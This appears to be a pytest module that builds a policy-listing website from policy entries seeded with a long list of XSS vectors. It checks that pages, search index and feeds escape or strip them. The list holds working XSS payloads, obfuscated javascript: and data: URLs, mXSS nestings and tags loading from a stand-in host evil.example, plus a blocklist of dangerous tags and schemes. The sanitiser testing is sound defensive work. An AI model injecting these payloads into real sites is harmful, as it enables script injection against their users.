"""Policy text is untrusted: XSS vectors in every field of a policy, built into a real site.

Each vector goes into every text field of its own policy (``xss-<n>``); the site is built
once for the module and read back: the policy pages, the listings, the search index and
the feeds. Plus the contact → ``tel:`` rule and the inline Markdown of the short fields.
"""

from __future__ import annotations

import html
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest

from huimin.site.sanitize import contact_html, inline_markdown_html, policy_text_markdown
from tests.conftest import REPO
from tests.helpers import AS_OF, article, read, search_rows, write_project

VECTORS = [
    # script
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<div><script>alert(1)</script></div>",
    "<svg><script>alert(1)</script></svg>",
    "<!-- --><script>alert(1)</script><!-- -->",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # event handlers on many tags
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)>",
    '<p onclick="alert(1)">点我</p>',
    '<div onmouseover="alert(1)">悬停</div>',
    "<span onfocus=alert(1) tabindex=0>x</span>",
    '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    '<svg onload="alert(1)"><circle r=1 /></svg>',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss onpointerenter=alert(1)>x</xss>",
    '<table background="javascript:alert(1)"><tr><td onclick="alert(1)">x</td></tr></table>',
    # javascript:, vbscript:, data: URLs in HTML
    '<a href="javascript:alert(1)">链接</a>',
    '<a href="JaVaScRiPt:alert(1)">链接</a>',
    '<a href="&#106;avascript:alert(1)">链接</a>',
    '<a href="javascript&#58;alert(1)">链接</a>',
    '<a href="jav&#x09;ascript:alert(1)">链接</a>',
    '<a href=" javascript:alert(1)">链接</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<math href="javascript:alert(1)">x</math>',
    # ... and in Markdown links, images and reference links
    "[链接](javascript:alert(1))",
    "[链接](JaVaScRiPt:alert(1))",
    "[链接](javascript&#58;alert(1))",
    "[链接](<javascript:alert(1)>)",
    '[链接]( javascript:alert(1) "标题")',
    "[链接](vbscript:msgbox(1))",
    "[链接](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![图](javascript:alert(1))",
    "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[链接][r]\n\n[r]: javascript:alert(1)",
    "![图][r]\n\n[r]: data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "<javascript:alert(1)>",
    # embedded documents, forms, styles, page-level tags
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<form action="https://evil.example"><input name="p"><button>提交</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">样式</p>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Markdown extensions of the site's own pass: md_in_html and attr_list
    '<div markdown="1" onclick="alert(1)">**粗体**</div>',
    '<div markdown="1">[链接](javascript:alert(1))</div>',
    '段落\n{: onclick="alert(1)" }',
    '**粗体**{: onclick="alert(1)" }',
    '[链接](https://ok.example/){: onclick="alert(1)" }',
    '### 标题 {: onclick="alert(1)" }',
    "`[链接](javascript:alert(1))`",
    "</title><script>alert(1)</script>",
]

SCRIPT_TAGS = {"script"}
EMBEDDING = {"iframe", "object", "embed", "form", "input", "button", "style", "base", "meta", "link",
             "svg", "math", "frame", "frameset", "applet", "video", "audio", "source", "noscript",
             "details", "marquee", "body", "xss", "textarea", "select"}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background",
             "srcdoc", "srcset", "cite", "longdesc"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


def policy_yaml(n: int, vector: str) -> str:
    q = lambda s: json.dumps(s, ensure_ascii=False)  # JSON strings are YAML
    summary = vector if len(vector) <= 100 else "概述"
    procedure = q("1. 申请\n2. 审核\n\n" + vector + "\n")
    body = q("### 小标题\n\n" + vector + "\n\n结尾。\n")
    return f"""\
  - id: xss-{n}
    title: {q(vector)}
    category: {q(vector)}
    department: {q(vector)}
    summary: {q(summary)}
    targets: [{q(vector)}, 脱贫户]
    standard: {q(vector)}
    conditions: {q("前文" + vector + "后文")}
    procedure: {procedure}
    contact: {q(vector)}
    basis: {q(vector)}
    body: {body}
"""


CONTROL = """\
  - id: control
    title: 对照政策
    category: 教育保障
    department: 市教体局
    summary: 普通政策
    targets: [脱贫户]
    standard: 每生每年**1000元**
    conditions: 在公办幼儿园就读
    procedure: |
      1. 申请
      2. 审核
    contact: 0795-3999999
    body: |
      ### 补助对象

      在园幼儿，详见[说明](https://example.gov.cn/a)。
"""

SUBMISSION = """\
---
title: 袁州区报送
unit: 袁州区
month: 2024-05
kind: 经验成效类
date: 2024-05-18
summary: {summary}
---
{body}
"""


def site_files() -> dict[str, str]:
    policies = "policies:\n" + CONTROL + "".join(policy_yaml(n, v) for n, v in enumerate(VECTORS))
    # check refuses <img> and images that are not files beside the submission; the other vectors go in
    body = "\n\n".join(v for v in VECTORS if not re.search(r"<img\b|!\[", v, re.I))
    # Each vector is a 政策对象 too, so it must be in the vocabulary (huimin.yml targets).
    names = dict.fromkeys(["脱贫户", *(v.strip() for v in VECTORS)])
    settings = "targets:\n" + "".join(f"  - name: {json.dumps(n, ensure_ascii=False)}\n" for n in names)
    return {
        "huimin.yml": settings,
        "policy_lists/xss.yaml": policies,
        "content/submissions/2024-05/a.md": SUBMISSION.format(
            summary=json.dumps("<script>alert(1)</script>", ensure_ascii=False), body=body),
    }


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    from huimin.build import build

    root = write_project(tmp_path_factory.mktemp("xss") / "site", site_files())
    return build(root, as_of=AS_OF).site_dir


# ------------------------------------------------------------------ HTML checks


class _Scan(HTMLParser):
    """Elements and attributes of an HTML document, with nesting of links."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[tuple[dict[str, str], str]] = []
        self.nested_links = 0
        self._open_a = 0
        self._script: dict[str, str] | None = None
        self._script_text: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = {k: v or "" for k, v in attrs}
        self.elements.append((tag, attrs))
        if tag == "a":
            self.nested_links += self._open_a > 0
            self._open_a += 1
        if tag == "script":
            self._script, self._script_text = attrs, []

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "a":
            self._open_a -= 1

    def handle_endtag(self, tag):
        if tag == "a" and self._open_a:
            self._open_a -= 1
        if tag == "script" and self._script is not None:
            self.scripts.append((self._script, "".join(self._script_text)))
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._script_text.append(data)


def scan(html: str) -> _Scan:
    s = _Scan()
    s.feed(html)
    s.close()
    return s


def bad_scheme(url: str) -> bool:
    # Browsers drop ASCII tabs/newlines anywhere and blanks around a URL.
    url = re.sub(r"[\x00-\x20]", "", url).lower()
    m = re.match(r"([a-z][a-z0-9+.\-]*):", url)
    return bool(m) and m.group(1) not in SAFE_SCHEMES


def html_problems(html: str, *, content: bool, allowed_scripts: set[str] = frozenset(),
                  styles: bool = False) -> list[str]:
    """What survives in ``html``. ``content``: the article (no script, no embedding at all);
    ``styles``: inline style attributes are the page's own (the 公众号 preview's)."""
    s = scan(html)
    bad = []
    for tag, attrs in s.elements:
        for name, value in attrs.items():
            if name.startswith("on"):
                bad.append(f"<{tag} {name}=…>")
            if name in URL_ATTRS and bad_scheme(value):
                bad.append(f"<{tag} {name}={value!r}>")
            if content and name in ("style", "markdown", "srcdoc", "formaction") and not (
                name == "style" and styles
            ) and not (
                name == "style" and re.fullmatch(r"text-align: (left|right|center);?", value)  # tables
            ):
                bad.append(f"<{tag} {name}={value!r}>")
        if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
            bad.append("<meta http-equiv=refresh>")
        if tag == "base":
            bad.append("<base>")
        if content and tag in EMBEDDING | SCRIPT_TAGS:
            bad.append(f"<{tag}>")
    for attrs, text in s.scripts:
        if not content and script_key(attrs, text) not in allowed_scripts:
            bad.append(f"<script {attrs}>{text[:60]}")
    if s.nested_links:
        bad.append("<a> inside <a>")
    return bad


def script_key(attrs: dict[str, str], text: str) -> str:
    """The theme's scripts: its bundle under assets/, its JSON config, its inline scripts
    (which name the site root relative to the page, or absolute on 404.html)."""
    if attrs.get("src"):
        return "src:" + re.sub(r"^(\.\./)+|^/", "", attrs["src"])
    text = re.sub(r'(?<=")(?:\.\./)*(?:\.\.|\.|/)(?=")', "REL", text.strip())
    text = re.sub(r'(?<=")(?:(?:\.\./)+|/(?=[a-z]))', "", text)
    return f"inline:{attrs.get('type', '')}:{attrs.get('id', '')}:{text}"


@pytest.fixture(scope="module")
def theme_scripts(site):
    """The scripts of an ordinary policy page at the same depth: the theme's own."""
    s = scan(read(site, "policies/control/"))
    keys = {script_key(a, t) for a, t in s.scripts}
    assert any(k.startswith("src:assets/javascripts/") for k in keys), keys
    return keys


def page_problems(site, url: str, theme_scripts: set[str]) -> list[str]:
    page = read(site, url)
    head_title = re.search(r"<title>(.*?)</title>", page, re.S)
    bad = html_problems(page, content=False, allowed_scripts=theme_scripts)
    bad += [f"article: {b}" for b in html_problems(article(page), content=True)]
    if head_title is None or "<" in head_title.group(1):
        bad.append("<title> is not text")
    return bad


def index_problems(site, rows: list[list[str]]) -> list[str]:
    """The search index holds plain text that hm-search.js inserts escaped (tests/test_build.py
    checks the client): each title must be exactly the text its page shows as the heading."""
    bad = []
    for url, title, _type, summary in rows:
        h1 = re.search(r"<h1\b[^>]*>(.*?)</h1>", article(read(site, url)), re.S)
        shown = html.unescape(re.sub(r"<[^>]+>", "", h1.group(1))) if h1 else None
        if title != shown:
            bad.append(f"{url} title: {title!r} is not the page's heading {shown!r}")
        if not isinstance(summary, str):
            bad.append(f"{url} summary: {summary!r}")
    return bad


def survivors(site, theme_scripts) -> dict[int, list[str]]:
    """Vector number → what of it survives on its policy page or in its search entries."""
    rows = search_rows(site)
    found = {}
    for n in range(len(VECTORS)):
        url = f"policies/xss-{n}/"
        bad = page_problems(site, url, theme_scripts)
        bad += index_problems(site, [r for r in rows if r[0] == url])
        if bad:
            found[n] = bad
    return found


# ------------------------------------------------------------------ the built site


def test_enough_vectors():
    assert len(VECTORS) >= 48
    assert len(set(VECTORS)) == len(VECTORS)


def test_no_vector_survives_on_policy_pages_or_in_the_index(site, theme_scripts):
    found = survivors(site, theme_scripts)
    report = "\n".join(f"{n} {VECTORS[n]!r}: {bad[:3]}" for n, bad in found.items())
    assert found == {}, f"{len(found)} of {len(VECTORS)} vectors survive:\n{report}"


def test_control_page_is_clean(site, theme_scripts):
    assert page_problems(site, "policies/control/", theme_scripts) == []


SELF_CHECK = "zi-cha/index.html"


def self_check_without_its_own_code(page: str) -> str:
    """The 政策自查 page less the parts that are ours, not the policy lists': its script
    (exactly the template's), its style, and its form controls. The policies' rules come as
    JSON data that cannot close its <script> element (no "<" in it) and parses."""
    script = (REPO / "templates/pages/self_check.js").read_text(encoding="utf-8")
    data = re.search(r'<script type="application/json" id="hm-zc-data">(.*?)</script>', page, re.S)
    assert data and "<" not in data.group(1)
    json.loads(data.group(1))
    code = re.search(r"<script>\n(.*?)</script>", page, re.S)
    assert code and code.group(1) == script
    page = page.replace(data.group(0), "").replace(code.group(0), "")
    page = re.sub(r"<style>.*?</style>", "", page, count=1, flags=re.S)
    return re.sub(r"</?(form|input|button)\b[^>]*>", "", page)


def wechat_preview_without_its_own_code(page: str) -> str:
    """The 公众号 preview less its own script and style (exactly the templates'), buttons and the 报刊 text box;
    its article's inline styles are checked as the page's own (``styles=True``)."""
    for name, tag in (("wechat.js", "script"), ("wechat.css", "style")):
        own = f"<{tag}>\n" + (REPO / "templates/pages" / name).read_text(encoding="utf-8") + f"</{tag}>"
        assert own in page, name
        page = page.replace(own, "")
    return re.sub(r"</?(button|textarea)\b[^>]*>", "", page)


def test_no_vector_survives_on_any_page(site, theme_scripts):
    """Listings (index, facets, A–Z), the submission pages and every other page."""
    bad = []
    for path in sorted(site.rglob("*.html")):
        page = path.read_text(encoding="utf-8")
        where = path.relative_to(site)
        wechat = where.parts[0] == "wechat"
        if where.as_posix() == SELF_CHECK:
            page = self_check_without_its_own_code(page)
        if wechat:
            page = wechat_preview_without_its_own_code(page)
        bad += [f"{where}: {b}" for b in html_problems(page, content=False, allowed_scripts=theme_scripts)]
        if "<article" in page:
            bad += [f"{where}: article: {b}" for b in html_problems(article(page), content=True, styles=wechat)]
    assert bad == [], "\n".join(bad[:40])


def test_whole_search_index_is_clean(site):
    assert index_problems(site, search_rows(site)) == []


def test_feeds_hold_text_only(site):
    feeds = sorted(site.rglob("*.xml"))
    feeds = [f for f in feeds if f.name == "feed.xml"]
    assert feeds, "没有订阅源"
    atom = "{http://www.w3.org/2005/Atom}"
    for path in feeds:
        root = ET.parse(path).getroot()
        for el in root.iter():
            if el.tag in (f"{atom}title", f"{atom}summary", f"{atom}content"):
                assert el.get("type", "text") == "text", (path, el.tag)
            if el.tag == f"{atom}link":
                assert not bad_scheme(el.get("href", "")), (path, el.get("href"))


def test_page_titles_are_text(site):
    page = read(site, f"policies/xss-{VECTORS.index('</title><script>alert(1)</script>')}/")
    assert "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; - 测试站点</title>" in page
    desc = re.search(r'<meta name="description" content="([^"]*)"', page).group(1)
    assert desc == "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
    assert '<meta name="ArticleTitle" content="&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;">' in page


def test_vector_text_stays_visible_as_text(site):
    # Escaped, not dropped: a reader sees what the list says in the plain-text fields.
    page = read(site, f"policies/xss-{VECTORS.index('[链接](javascript:alert(1))')}/")
    assert re.search(r"<h1 [^>]*>\[链接\]\(javascript:alert\(1\)\)<", page)


def test_ordinary_policy_renders_as_before(site):
    page = article(read(site, "policies/control/"))
    assert "<td>每生每年<strong>1000元</strong></td>" in page
    assert '<td><a href="tel:07953999999">0795-3999999</a></td>' in page
    assert '<h3 id="bu-zhu-dui-xiang">补助对象' in page
    assert '<a href="https://example.gov.cn/a" rel="noopener noreferrer nofollow">说明</a>' in page
    assert re.search(r"<ol>\s*<li>申请</li>\s*<li>审核</li>\s*</ol>", page)


def test_md_in_html_and_attr_list_do_not_come_back(site):
    for vector in ('<div markdown="1" onclick="alert(1)">**粗体**</div>', '段落\n{: onclick="alert(1)" }',
                   '**粗体**{: onclick="alert(1)" }', '### 标题 {: onclick="alert(1)" }',
                   '[链接](https://ok.example/){: onclick="alert(1)" }'):
        elements = scan(article(read(site, f"policies/xss-{VECTORS.index(vector)}/"))).elements
        assert [(t, a) for t, a in elements if "onclick" in a or "markdown" in a] == [], vector
    # The attribute list is shown as text, not applied.
    n = VECTORS.index('段落\n{: onclick="alert(1)" }')
    page = article(read(site, f"policies/xss-{n}/"))
    assert '{: onclick="alert(1)" }' in page


# ------------------------------------------------------------------ contact → tel: links


@pytest.mark.parametrize("contact, expected", [
    ("0795-3999999", '<a href="tel:07953999999">0795-3999999</a>'),
    ("12317", '<a href="tel:12317">12317</a>'),
    ("(0795) 3999999", '<a href="tel:07953999999">(0795) 3999999</a>'),
    ("（0795）3999999", '<a href="tel:07953999999">（0795）3999999</a>'),
    ("+86 795 3999999", '<a href="tel:+867953999999">+86 795 3999999</a>'),
    ("0795-3999999、13800138000",
     '<a href="tel:07953999999">0795-3999999</a>、<a href="tel:13800138000">13800138000</a>'),
    ("0795-3999999，0795-3888888；12317",
     '<a href="tel:07953999999">0795-3999999</a>，<a href="tel:07953888888">0795-3888888</a>；'
     '<a href="tel:12317">12317</a>'),
    ("0795-3999999 13800138000",
     '<a href="tel:07953999999">0795-3999999</a> <a href="tel:13800138000">13800138000</a>'),
    ("市教体局 0795-3999999", '市教体局 <a href="tel:07953999999">0795-3999999</a>'),
    ("市教体局资助中心：0795-3999999（工作日 8:30-17:30）",
     '市教体局资助中心：<a href="tel:07953999999">0795-3999999</a>（工作日 8:30-17:30）'),
    ("到村委会咨询", "到村委会咨询"),
    ("[点我](javascript:alert(1))", "\\[点我\\](javascript:alert(1))"),
    ('"><script>alert(3)</script>', "&#34;&gt;&lt;script&gt;alert(3)&lt;/script&gt;"),
    ("<a href=\"tel:12317\">12317</a>",
     '&lt;a href=&#34;tel:<a href="tel:12317">12317</a>&#34;&gt;<a href="tel:12317">12317</a>&lt;/a&gt;'),
    ("*12317*", '\\*<a href="tel:12317">12317</a>\\*'),
])
def test_contact_phone_links(contact, expected):
    assert contact_html(contact) == expected


# ------------------------------------------------------------------ helpers without a build


def test_inline_markdown_keeps_bold_and_line_breaks():
    assert inline_markdown_html("每生每年**1000元**\n另加补助") == "每生每年<strong>1000元</strong><br>另加补助"
    assert inline_markdown_html("<b onclick=x>粗</b>") == "&lt;b onclick=x&gt;粗&lt;/b&gt;"
    assert inline_markdown_html("| 表格 | 注入 |") == "\\| 表格 \\| 注入 \\|"


def test_inline_markdown_text_cannot_become_markdown_again():
    # What was a code span must not turn into a link in the site's own Markdown pass.
    assert inline_markdown_html("`[x](javascript:alert(1))`") == "<code>\\[x\\](javascript:alert(1))</code>"
    assert inline_markdown_html("[x](javascript:alert(1))") == '<a rel="noopener noreferrer nofollow">x</a>'


def test_policy_text_is_headings_and_raw_blocks():
    text = policy_text_markdown("### 补助对象 {: onclick=x }\n\n<div markdown=\"1\">**x**</div>\n\n正文")
    assert text.startswith("### 补助对象 \\{: onclick=x \\}\n")
    assert "markdown=" not in text
    assert '<div class="hm-text">' in text


def test_vectors_without_a_build_are_clean():
    for vector in VECTORS:
        html = policy_text_markdown(f"前文\n\n{vector}\n\n后文")
        assert not [b for b in html_problems(html, content=True)], vector
